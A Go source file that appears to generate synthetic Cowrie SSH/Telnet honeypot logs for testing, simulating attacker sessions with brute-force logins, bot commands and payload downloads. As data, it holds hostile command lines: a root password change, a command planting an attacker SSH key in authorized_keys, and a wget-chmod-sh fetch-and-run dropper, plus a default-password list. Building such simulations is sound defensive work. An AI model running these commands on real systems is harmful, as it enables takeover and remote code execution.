package gen

import "strings"

// Cowrie SSH/Telnet honeypot JSON logs (cowrie.json, rotated daily), one file
// per honeypot sensor. Each activity is one attacker session: connect, client
// version and key exchange, login attempts, commands, downloads, close, with
// the key set of each eventid as real Cowrie writes it.

func init() {
	register(&source{name: "cowrie", lines: 3500, per: 8.32, shape: &flat, weekend: 1,
		new: func(w *world) generator { return newCowrie(w) }})
}

type cowrieGen struct {
	w *world
	// per sensor: `,"sensor":"hp-fra-1","uuid":"..."` (after message)
	tag []string
}

func newCowrie(w *world) *cowrieGen {
	g := &cowrieGen{w: w}
	for _, s := range w.sensors {
		g.tag = append(g.tag, `,"sensor":"`+s.name+`","uuid":"`+s.uuid+`","timestamp":"`)
	}
	return g
}

func (g *cowrieGen) layout(d *day) {
	k := d.fileCount()
	for i := range k {
		gz, sfx := d.gz()
		d.newFile(g.w.sensors[i].name+".cowrie.json."+d.dt.ymd+sfx, gz)
	}
}

// sshClient is an SSH client implementation as seen in the key exchange.
type sshClient struct {
	version string
	kex     string // the client.kex fields between eventid and timestamp, JSON
}

func newSSHClient(version string, kex, key, enc, mac, comp []string) sshClient {
	algs := strings.Join(kex, ",") + ";" + strings.Join(enc, ",") + ";" + strings.Join(mac, ",") + ";" + strings.Join(comp, ",")
	hassh := md5hex(algs)
	list := func(s []string) string {
		var b []byte
		b = append(b, '[')
		for i, v := range s {
			if i > 0 {
				b = append(b, ',')
			}
			b = appJSONStr(b, v)
		}
		return string(append(b, ']'))
	}
	k := `,"hassh":"` + hassh + `","hasshAlgorithms":` + string(appJSONStr(nil, algs)) +
		`,"kexAlgs":` + list(kex) + `,"keyAlgs":` + list(key) + `,"encCS":` + list(enc) + `,"macCS":` + list(mac) +
		`,"compCS":` + list(comp) + `,"langCS":[""],"message":"SSH client hassh fingerprint: ` + hassh + `"`
	return sshClient{version: version, kex: k}
}

var sshClients = []sshClient{
	newSSHClient("SSH-2.0-Go",
		[]string{"curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1"},
		[]string{"ssh-rsa-cert-v01@openssh.com", "ssh-dss-cert-v01@openssh.com", "ecdsa-sha2-nistp256-cert-v01@openssh.com", "ecdsa-sha2-nistp384-cert-v01@openssh.com", "ecdsa-sha2-nistp521-cert-v01@openssh.com", "ssh-ed25519-cert-v01@openssh.com", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp521", "ssh-rsa", "ssh-dss", "ssh-ed25519"},
		[]string{"aes128-gcm@openssh.com", "chacha20-poly1305@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr"},
		[]string{"hmac-sha2-256-etm@openssh.com", "hmac-sha2-256", "hmac-sha1", "hmac-sha1-96"},
		[]string{"none"}),
	newSSHClient("SSH-2.0-libssh_0.9.6",
		[]string{"curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group18-sha512", "diffie-hellman-group16-sha512", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1", "ext-info-c"},
		[]string{"ssh-ed25519", "ecdsa-sha2-nistp521", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp256", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa"},
		[]string{"chacha20-poly1305@openssh.com", "aes256-gcm@openssh.com", "aes128-gcm@openssh.com", "aes256-ctr", "aes192-ctr", "aes128-ctr", "aes256-cbc", "aes192-cbc", "aes128-cbc"},
		[]string{"hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1-etm@openssh.com", "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"},
		[]string{"none", "zlib@openssh.com", "zlib"}),
	newSSHClient("SSH-2.0-OpenSSH_7.4",
		[]string{"curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group16-sha512", "diffie-hellman-group18-sha512", "diffie-hellman-group-exchange-sha1", "diffie-hellman-group14-sha256", "diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1", "ext-info-c"},
		[]string{"ecdsa-sha2-nistp256-cert-v01@openssh.com", "ssh-ed25519-cert-v01@openssh.com", "ssh-rsa-cert-v01@openssh.com", "ecdsa-sha2-nistp256", "ssh-ed25519", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa"},
		[]string{"chacha20-poly1305@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr", "aes128-gcm@openssh.com", "aes256-gcm@openssh.com", "aes128-cbc", "aes192-cbc", "aes256-cbc"},
		[]string{"umac-64-etm@openssh.com", "umac-128-etm@openssh.com", "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1-etm@openssh.com", "umac-64@openssh.com", "umac-128@openssh.com", "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"},
		[]string{"none", "zlib@openssh.com", "zlib"}),
	newSSHClient("SSH-2.0-paramiko_3.4.0",
		[]string{"curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group16-sha512", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group14-sha256", "diffie-hellman-group-exchange-sha1", "diffie-hellman-group14-sha1", "diffie-hellman-group1-sha1"},
		[]string{"ssh-ed25519", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp521", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa", "ssh-dss"},
		[]string{"aes128-ctr", "aes192-ctr", "aes256-ctr", "aes128-cbc", "aes192-cbc", "aes256-cbc", "3des-cbc"},
		[]string{"hmac-sha2-256", "hmac-sha2-512", "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1", "hmac-md5", "hmac-sha1-96", "hmac-md5-96"},
		[]string{"none"}),
	newSSHClient("SSH-2.0-OpenSSH_9.9",
		[]string{"sntrup761x25519-sha512", "sntrup761x25519-sha512@openssh.com", "mlkem768x25519-sha256", "curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group16-sha512", "diffie-hellman-group18-sha512", "diffie-hellman-group14-sha256", "ext-info-c", "kex-strict-c-v00@openssh.com"},
		[]string{"ssh-ed25519-cert-v01@openssh.com", "ecdsa-sha2-nistp256-cert-v01@openssh.com", "ecdsa-sha2-nistp384-cert-v01@openssh.com", "ecdsa-sha2-nistp521-cert-v01@openssh.com", "sk-ssh-ed25519-cert-v01@openssh.com", "sk-ecdsa-sha2-nistp256-cert-v01@openssh.com", "rsa-sha2-512-cert-v01@openssh.com", "rsa-sha2-256-cert-v01@openssh.com", "ssh-ed25519", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp521", "sk-ssh-ed25519@openssh.com", "sk-ecdsa-sha2-nistp256@openssh.com", "rsa-sha2-512", "rsa-sha2-256"},
		[]string{"chacha20-poly1305@openssh.com", "aes128-ctr", "aes192-ctr", "aes256-ctr", "aes128-gcm@openssh.com", "aes256-gcm@openssh.com"},
		[]string{"umac-64-etm@openssh.com", "umac-128-etm@openssh.com", "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com", "hmac-sha1-etm@openssh.com", "umac-64@openssh.com", "umac-128@openssh.com", "hmac-sha2-256", "hmac-sha2-512", "hmac-sha1"},
		[]string{"none", "zlib@openssh.com"}),
	newSSHClient("SSH-2.0-PuTTY_Release_0.81",
		[]string{"curve25519-sha256", "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256", "ecdh-sha2-nistp384", "ecdh-sha2-nistp521", "diffie-hellman-group18-sha512", "diffie-hellman-group17-sha512", "diffie-hellman-group16-sha512", "diffie-hellman-group15-sha512", "diffie-hellman-group-exchange-sha256", "diffie-hellman-group14-sha256", "rsa2048-sha256", "ext-info-c", "kex-strict-c-v00@openssh.com"},
		[]string{"ssh-ed448", "ssh-ed25519", "ecdsa-sha2-nistp256", "ecdsa-sha2-nistp384", "ecdsa-sha2-nistp521", "rsa-sha2-512", "rsa-sha2-256", "ssh-rsa"},
		[]string{"aes256-gcm@openssh.com", "aes256-ctr", "aes256-cbc", "rijndael-cbc@lysator.liu.se", "aes192-ctr", "aes192-cbc", "aes128-gcm@openssh.com", "aes128-ctr", "aes128-cbc", "chacha20-poly1305@openssh.com", "3des-ctr", "3des-cbc"},
		[]string{"hmac-sha2-256", "hmac-sha1", "hmac-sha1-96", "hmac-md5", "hmac-sha2-256-etm@openssh.com", "hmac-sha1-etm@openssh.com", "hmac-sha1-96-etm@openssh.com", "hmac-md5-etm@openssh.com"},
		[]string{"none", "zlib", "zlib@openssh.com"}),
}

var (
	honeyUsers = []string{"root", "root", "root", "admin", "ubuntu", "user", "test", "oracle", "pi", "postgres", "support", "git", "guest", "ftpuser", "debian", "centos", "ubnt", "nproc"}
	honeyPass  = []string{"123456", "admin", "password", "root", "1234", "12345678", "qwerty", "P@ssw0rd", "admin123", "ubnt", "raspberry",
		"123", "test", "1qaz2wsx", "changeme", "toor", "Passw0rd!", "111111", "letmein", `pa"ss\word`, "abc123", "default", "iloveyou", "000000"}
	botCommands = []string{
		"uname -a",
		"cat /proc/cpuinfo | grep name | wc -l",
		`echo "root:Xk9vQ2mLp"|chpasswd|bash`,
		"cd ~; chattr -ia .ssh; lockr -ia .ssh",
		`cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`,
		"free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
		"ls -lh $(which ls)",
		"crontab -l",
		"w",
		"nproc",
		"cat /etc/os-release",
		"ps aux | grep -v grep | grep -i miner",
	}
	dropNames = []string{"bins.sh", "x86_64", "sshd", "kinsing", ".s", "mips", "arm7", "update.sh"}
)

// session is one attacker session; the fields shared by its events.
type session struct {
	fi     int
	ip     string
	id     [12]byte
	telnet bool
}

func (g *cowrieGen) activity(d *day, t int64) {
	r, w := d.r, g.w
	s := session{fi: r.IntN(len(d.files)), ip: w.attacker[skew(r, len(w.attacker))], telnet: r.IntN(100) < 15}
	appRandHex(s.id[:0], r, 12)
	t0 := t
	step := func(lo, hi int) { t = d.clamp(t + int64(between(r, lo, hi))*int64(1e3)) } // microseconds

	sport := between(r, 1024, 65535)
	dport := 22
	if s.telnet {
		dport = 23
	}
	g.connect(d, &s, sport, dport, t)
	var b []byte

	if !s.telnet {
		c := &sshClients[skewMild(r, len(sshClients))]
		step(80_000, 400_000)
		g.clientVersion(d, &s, c.version, t)
		step(50_000, 300_000)
		b = g.start(d, "client.kex")
		b = append(b, c.kex...)
		g.end(d, b, &s, t)
	}

	attempts := 1 + skew(r, 12)
	success := r.IntN(100) < 30
	for i := 0; i < attempts; i++ {
		step(400_000, 3_500_000)
		user := pick(r, honeyUsers)
		pass := honeyPass[skewMild(r, len(honeyPass))]
		ok := success && i == attempts-1
		g.login(d, &s, user, pass, ok, t)
	}
	if success {
		for n := r.IntN(6); n > 0; n-- {
			step(300_000, 6_000_000)
			g.command(d, &s, t, botCommands[skewMild(r, len(botCommands))])
		}
		if r.IntN(3) == 0 { // fetch and run a payload
			host := ipString(publicIP(r))
			if r.IntN(2) == 0 {
				host = w.attacker[r.IntN(len(w.attacker))]
			}
			file := pick(r, dropNames)
			url := "http://" + host + "/" + file
			step(300_000, 4_000_000)
			g.command(d, &s, t, "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget "+url+"; chmod 777 "+file+"; sh "+file+"; rm -rf "+file)
			step(500_000, 8_000_000)
			sha := appRandHex(nil, r, 64)
			b = g.start(d, "session.file_download")
			b = append(b, `,"url":`...)
			b = appJSONStr(b, url)
			b = append(b, `,"outfile":"var/lib/cowrie/downloads/`...)
			b = append(b, sha...)
			b = append(b, `","shasum":"`...)
			b = append(b, sha...)
			b = append(b, `","message":"Downloaded URL (`...)
			b = appJSONRaw(b, url)
			b = append(b, ") with SHA-256 "...)
			b = append(b, sha...)
			b = append(b, " to var/lib/cowrie/downloads/"...)
			b = append(b, sha...)
			b = append(b, '"')
			g.end(d, b, &s, t)
		}
	}
	step(100_000, 30_000_000)
	dur := (t - t0) / 1e8 // tenths of a second
	g.closed(d, &s, dur, t)
}

// connect emits the cowrie.session.connect event of session s.
func (g *cowrieGen) connect(d *day, s *session, sport, dport int, t int64) {
	sensor := &g.w.sensors[s.fi]
	st := d.mark()
	b := append(d.arena, `{"eventid":"cowrie.session.connect","src_ip":"`...)
	b = append(b, s.ip...)
	b = append(b, `","src_port":`...)
	b = appInt(b, int64(sport))
	b = append(b, `,"dst_ip":"`...)
	b = append(b, sensor.ip...)
	b = append(b, `","dst_port":`...)
	b = appInt(b, int64(dport))
	b = append(b, `,"session":"`...)
	b = append(b, s.id[:]...)
	b = append(b, `","protocol":"`...)
	b = append(b, s.proto()...)
	b = append(b, `","message":"New connection: `...)
	b = append(b, s.ip...)
	b = append(b, ':')
	b = appInt(b, int64(sport))
	b = append(b, " ("...)
	b = append(b, sensor.ip...)
	b = append(b, ':')
	b = appInt(b, int64(dport))
	b = append(b, ") [session: "...)
	b = append(b, s.id[:]...)
	b = append(b, "]\""...)
	b = append(b, g.tag[s.fi]...)
	b = d.dt.appISO(b, t, 6)
	b = append(b, `"}`...)
	d.arena = b
	d.emit(s.fi, t, st)
}

func (s *session) proto() string {
	if s.telnet {
		return "telnet"
	}
	return "ssh"
}

// start begins an event line: {"eventid":"cowrie.<id>"
// closed writes a cowrie.session.closed line; dur is in tenths of a second.
func (g *cowrieGen) closed(d *day, s *session, dur, t int64) {
	b := g.start(d, "session.closed")
	b = append(b, `,"duration":"`...)
	b = appInt(b, dur/10)
	b = append(b, '.')
	b = appInt(b, dur%10)
	b = append(b, `","message":"Connection lost after `...)
	b = appInt(b, dur/10)
	b = append(b, '.')
	b = appInt(b, dur%10)
	b = append(b, ` seconds"`...)
	g.end(d, b, s, t)
}

// clientVersion writes a cowrie.client.version line.
func (g *cowrieGen) clientVersion(d *day, s *session, version string, t int64) {
	b := g.start(d, "client.version")
	b = append(b, `,"version":"`...)
	b = append(b, version...)
	b = append(b, `","message":"Remote SSH version: `...)
	b = append(b, version...)
	b = append(b, '"')
	g.end(d, b, s, t)
}

// login writes a cowrie.login.success or cowrie.login.failed line.
func (g *cowrieGen) login(d *day, s *session, user, pass string, ok bool, t int64) {
	var b []byte
	if ok {
		b = g.start(d, "login.success")
	} else {
		b = g.start(d, "login.failed")
	}
	b = append(b, `,"username":`...)
	b = appJSONStr(b, user)
	b = append(b, `,"password":`...)
	b = appJSONStr(b, pass)
	b = append(b, `,"message":"login attempt [`...)
	b = appJSONRaw(b, user)
	b = append(b, '/')
	b = appJSONRaw(b, pass)
	if ok {
		b = append(b, `] succeeded"`...)
	} else {
		b = append(b, `] failed"`...)
	}
	g.end(d, b, s, t)
}

func (g *cowrieGen) start(d *day, id string) []byte {
	b := append(d.arena, `{"eventid":"cowrie.`...)
	b = append(b, id...)
	return append(b, '"')
}

// end appends the fields every event after connect ends with and emits it.
func (g *cowrieGen) end(d *day, b []byte, s *session, t int64) {
	st := len(d.arena) // b extends d.arena with the line being built
	b = append(b, g.tag[s.fi]...)
	b = d.dt.appISO(b, t, 6)
	b = append(b, `","src_ip":"`...)
	b = append(b, s.ip...)
	b = append(b, `","session":"`...)
	b = append(b, s.id[:]...)
	b = append(b, `","protocol":"`...)
	b = append(b, s.proto()...)
	b = append(b, `"}`...)
	d.arena = b
	d.emit(s.fi, t, st)
}

func (g *cowrieGen) command(d *day, s *session, t int64, cmd string) {
	b := g.start(d, "command.input")
	b = append(b, `,"input":`...)
	b = appJSONStr(b, cmd)
	b = append(b, `,"message":"CMD: `...)
	b = appJSONRaw(b, cmd)
	b = append(b, '"')
	g.end(d, b, s, t)
}

func (g *cowrieGen) corrupt(d *day, kind int, line []byte) []byte {
	switch kind {
	case badTruncate:
		return d.truncate(line, 10, 0.7)
	case badNumber:
		return breakAt(line, after(line, `"timestamp":"`)+11)
	}
	return d.garbage()
}
